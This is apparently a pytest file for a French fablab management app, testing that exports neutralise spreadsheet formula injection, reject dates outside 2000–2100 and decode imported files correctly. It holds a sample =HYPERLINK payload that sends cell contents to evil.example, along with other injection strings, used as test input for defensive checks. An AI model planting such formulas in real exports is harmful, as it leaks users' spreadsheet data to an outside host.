"""Bad input stopped at the door (issue 13, point 6): formula injection in the exports, a
character a spreadsheet cannot hold, years and days outside 2000–2100, imported files
decoded the same way (UTF-8 with or without BOM, else Windows-1252)."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import update

from tierslieu_desktop.db.models import Audience, Machine, MachineCategory, Member, Space
from tierslieu_desktop.domain.errors import DomainError, ValidationError
from tierslieu_desktop.domain.inputs import decode_text
from tierslieu_desktop.reports.sheets import csv_value, write_sheet
from tierslieu_desktop.services.finance import expenses, exports, fec
from tierslieu_desktop.services.finance import funding as fin
from tierslieu_desktop.services.people import members
from tierslieu_desktop.services.people.members import MemberInput
from tierslieu_desktop.services.pricing import tariff_csv
from tierslieu_desktop.services.pricing import tariffs as t
from tierslieu_desktop.services.pricing.tariff_csv import CsvImportError
from tierslieu_desktop.services.reporting import annual_figures

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


def member_named(db, operator, first: str, last: str) -> int:
    """A member whose stored name is ``first``/``last`` as it is in the file (written by
    an older version or another tool: the export must hold whatever the file holds)."""
    mid = members.save_member(db, operator, MemberInput(first_name="Ada", last_name="Lovelace"))
    with db.write() as s:
        s.execute(update(Member).where(Member.id == mid).values(first_name=first, last_name=last))
    return mid


def member_cells(path) -> dict[str, object]:
    ws = load_workbook(path).active
    headers = [c.value for c in ws[1]]
    return {h: c for h, c in zip(headers, ws[2], strict=True)}


# --------------------------------------------------------------------------- formulas


def test_formula_names_are_text_in_the_xlsx_export(db, operator, tmp_path):
    member_named(db, operator, "=1+1", HYPERLINK)
    path = tmp_path / "members.xlsx"
    assert exports.export_xlsx(db, "members", None, path) == 1
    headers, rows = exports.table_rows(db, "members", None)
    first = headers.index(next(h for h in headers if h.lower().startswith("prénom")))
    last = headers.index("Nom")
    ws = load_workbook(path).active
    for col, typed in ((first, "=1+1"), (last, HYPERLINK)):
        cell = ws.cell(row=2, column=col + 1)
        assert cell.data_type == "s"  # a text, never a formula
        assert cell.value == typed  # shown exactly as typed
        assert cell.quotePrefix  # and stays text when edited in the spreadsheet


def test_formula_names_are_quoted_in_the_csv_export(db, operator, tmp_path):
    member_named(db, operator, "@SUM(A1:A9)", "=1+1")
    path = tmp_path / "members.csv"
    exports.export_csv(db, "members", None, path)
    with open(path, encoding="utf-8-sig", newline="") as fh:
        header, row = list(csv.reader(fh, delimiter=";"))
    assert "'=1+1" in row and "'@SUM(A1:A9)" in row
    assert "=1+1" not in row


def test_every_dangerous_start_is_neutralised_but_numbers_stay_numbers(tmp_path):
    texts = ["=1+1", "+33 6 12", "-2+3", "@cmd", "\tx", "\rx"]
    wb = Workbook()
    ws = wb.active
    write_sheet(
        ws,
        ["Texte", "Montant", "Nombre"],
        [[text, Decimal("-12.50"), -3] for text in texts],
        money_headers=frozenset({"Montant"}),
    )
    wb.save(tmp_path / "t.xlsx")
    back = load_workbook(tmp_path / "t.xlsx").active
    for row, text in enumerate(texts, start=2):
        cell = back.cell(row=row, column=1)
        assert (cell.value, cell.data_type) == (text, "s")
        assert back.cell(row=row, column=2).value == -12.5
        assert back.cell(row=row, column=2).data_type == "n"
        assert back.cell(row=row, column=3).value == -3
        assert back.cell(row=row, column=3).data_type == "n"
        assert csv_value(text) == "'" + text
    assert csv_value(Decimal("-12.5")) == "-12,50"
    assert csv_value(-3) == "-3"
    assert csv_value("Jean-Pierre") == "Jean-Pierre"  # a dash inside is harmless


@pytest.mark.sqlite_only(
    reason="stores a NUL byte only an SQLite file can hold (PostgreSQL: value_rejected)"
)
def test_a_nul_in_a_name_does_not_break_the_members_export(db, operator, tmp_path):
    member_named(db, operator, "Zoé", "Lo\x00velace\x1f")
    member_named(db, operator, "Jean", "Delpech")
    path = tmp_path / "members.xlsx"
    assert exports.export_xlsx(db, "members", None, path) == 2
    names = {c.value for row in load_workbook(path).active.iter_rows() for c in row}
    assert "Lo\ufffdvelace\ufffd" in names and "Delpech" in names
    csv_path = tmp_path / "members.csv"
    assert exports.export_csv(db, "members", None, csv_path) == 2
    assert "\x00" not in csv_path.read_text(encoding="utf-8-sig")


@pytest.fixture
def laser(db):
    with db.write() as s:
        s.add(Audience(name="Grand public", position=1))
        fablab = Space(name="Fablab", position=1)
        cat = MachineCategory(name="Découpe laser", position=1)
        s.add_all([fablab, cat])
        s.flush()
        machine = Machine(name="Découpeuse laser", category_id=cat.id, space_id=fablab.id)
        s.add(machine)
        s.flush()
        return machine.id


def test_tariff_file_quotes_a_formula_name_and_reads_it_back(db, operator, laser):
    with db.write() as s:
        s.execute(update(Machine).where(Machine.id == laser).values(name="=Laser"))
    t.set_price(
        db, operator, kind="machine", resource_id=laser, audience_id=None, membership="any",
        unit="hour", step_minutes=15, amount_cents=1500, from_day=date(2026, 1, 1),
    )  # fmt: skip
    text = tariff_csv.export_rules_csv(db)
    assert "machine;'=Laser;" in text
    changed = text.replace("15,00", "18,00")
    assert tariff_csv.import_rules_csv(db, operator, changed, date(2026, 2, 1)) == 1
    assert "18,00" in tariff_csv.export_rules_csv(db, date(2026, 3, 1))


# --------------------------------------------------------------------------- years


@pytest.mark.parametrize("year", ["9999", "1899"])
@pytest.mark.parametrize(
    "command",
    [
        ("export", "xlsx", "members", "-o", "x.xlsx"),
        ("export", "csv", "invoices", "-o", "x.csv"),
        ("export", "fec", "-o", "."),
        ("export", "activity", "-o", "a.xlsx"),
        ("report", "annual", "-o", "r.pdf"),
        ("close",),
    ],
)
def test_cli_year_out_of_range_says_so_in_french(db, tmp_path, command, year):
    env = dict(os.environ, QT_QPA_PLATFORM="offscreen")
    before = sorted(tmp_path.rglob("*"))
    result = subprocess.run(
        [sys.executable, "-m", "tierslieu_desktop", *command, "--year", year, "--db", db.target],
        capture_output=True,
        text=True,
        env=env,
        cwd=tmp_path,
        timeout=120,
    )
    assert result.returncode == 2
    assert "Traceback" not in result.stderr
    assert f"l'année {year} est hors des années acceptées (2000 à 2100)" in result.stderr
    assert sorted(tmp_path.rglob("*")) == before  # nothing written


def test_cli_day_out_of_range_is_refused(db, tmp_path):
    env = dict(os.environ, QT_QPA_PLATFORM="offscreen")
    result = subprocess.run(
        [sys.executable, "-m", "tierslieu_desktop", "close", "--day", "1899-12-31"]
        + ["--db", db.target],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "« 1899-12-31 » est hors des dates acceptées" in result.stderr


@pytest.mark.parametrize("year", [9999, 1899, 10000])
def test_services_taking_a_year_refuse_one_out_of_range(db, year, tmp_path):
    for call in (
        lambda: exports.table_rows(db, "members", year),
        lambda: exports.export_csv(db, "members", year, tmp_path / "m.csv"),
        lambda: fec.fec_entries(db, year),
        lambda: annual_figures(db, year),
    ):
        with pytest.raises(DomainError) as err:
            call()
        assert err.value.code == "year_out_of_range"
    assert not (tmp_path / "m.csv").exists()


# --------------------------------------------------------------------------- days


@pytest.mark.parametrize("day", [date(9999, 1, 1), date(1900, 1, 1), date(1999, 12, 31)])
def test_an_expense_outside_2000_2100_is_refused_by_field(db, operator, day):
    with pytest.raises(ValidationError) as err:
        expenses.save_expense(
            db, operator, day=day, category="consumables", activity="fablab", amount_cents=100
        )
    assert err.value.fields == {"day": "date_out_of_range"}
    assert expenses.list_expenses(db) == []
    expenses.save_expense(
        db, operator, day=date(2100, 12, 31), category="consumables", activity="fablab",
        amount_cents=100,
    )  # fmt: skip


def test_the_expense_import_names_the_line_of_a_day_out_of_range(db, operator):
    text = (
        "date;categorie;activite;montant;libelle\n"
        "01/03/2026;consommables;fablab;12,50;PLA\n"
        "01/01/9999;consommables;fablab;3,00;Colle\n"
    )
    with pytest.raises(CsvImportError) as err:
        expenses.import_expenses_csv(db, operator, text)
    assert (err.value.line, err.value.field, err.value.problem) == (3, "date", "date_out_of_range")
    assert expenses.list_expenses(db) == []


def test_grants_payments_and_in_kind_refuse_days_and_years_out_of_range(db, operator):
    funder = fin.save_funder(db, operator, name="Région", sector="public", level="region")
    with pytest.raises(ValidationError) as err:
        fin.save_grant(
            db, operator, funder_id=funder, purpose="Fonctionnement", nature="operating",
            period_start=date(1900, 1, 1), period_end=date(2026, 12, 31), requested_cents=100,
            report_due=date(9999, 1, 1),
        )  # fmt: skip
    assert err.value.fields == {
        "period_start": "date_out_of_range",
        "report_due": "date_out_of_range",
    }
    grant = fin.save_grant(
        db, operator, funder_id=funder, purpose="Fonctionnement", nature="operating",
        period_start=date(2026, 1, 1), period_end=date(2026, 12, 31), requested_cents=100,
    )  # fmt: skip
    with pytest.raises(ValidationError) as err:
        fin.add_grant_payment(db, operator, grant, date(9999, 12, 31), 100)
    assert err.value.fields == {"received_on": "date_out_of_range"}
    with pytest.raises(ValidationError) as err:
        fin.save_in_kind(
            db, operator, funder_id=None, year=9999, kind="volunteering",
            description="Bénévolat", value_cents=100,
        )  # fmt: skip
    assert err.value.fields == {"year": "year_out_of_range"}


# --------------------------------------------------------------------------- decoding


def test_decode_text_reads_utf8_with_or_without_bom_then_cp1252():
    assert decode_text("Découpeuse".encode()) == "Découpeuse"
    assert decode_text(b"\xef\xbb\xbf" + "Découpeuse".encode()) == "Découpeuse"
    assert decode_text("Découpeuse – 5 €".encode("cp1252")) == "Découpeuse – 5 €"


@pytest.mark.parametrize(
    ("data", "line"),
    [
        (b"type;ressource\nmachine;laser\nmachine;\x81\x8d\n", 3),  # neither UTF-8 nor cp1252
        (b"\xff\xfet\x00y\x00p\x00e\x00", 1),  # UTF-16: NUL bytes
    ],
)
def test_a_file_that_is_not_text_is_refused_naming_the_line(db, operator, data, line):
    with pytest.raises(DomainError) as err:
        decode_text(data)
    assert (err.value.code, err.value.params) == ("file_undecodable", {"line": line})
    with pytest.raises(DomainError) as err:
        tariff_csv.import_rules_csv(db, operator, data, date(2026, 1, 1))
    assert err.value.params == {"line": line}
    with pytest.raises(DomainError) as err:
        expenses.import_expenses_csv(db, operator, data)
    assert err.value.params == {"line": line}


def test_a_cp1252_tariff_file_imports(db, operator, laser):
    text = (
        "type;ressource;public;adhesion;unite;pas_minutes;prix;du;au\r\n"
        "machine;Découpeuse laser;Tous publics;tous;heure;15;15,00;01/01/2026;\r\n"
    )
    data = text.encode("cp1252")
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")
    assert tariff_csv.import_rules_csv(db, operator, data, date(2026, 1, 1)) == 1
    assert "machine;Découpeuse laser;" in tariff_csv.export_rules_csv(db)


def test_a_cp1252_expense_file_imports_like_a_utf8_one(db, operator):
    text = "date;categorie;activite;montant;libelle\n01/03/2026;énergie;fablab;12,50;Électricité\n"
    assert expenses.import_expenses_csv(db, operator, text.encode("cp1252")) == 1
    assert expenses.import_expenses_csv(db, operator, b"\xef\xbb\xbf" + text.encode()) == 1
    assert [e.label for e in expenses.list_expenses(db)] == ["Électricité", "Électricité"]
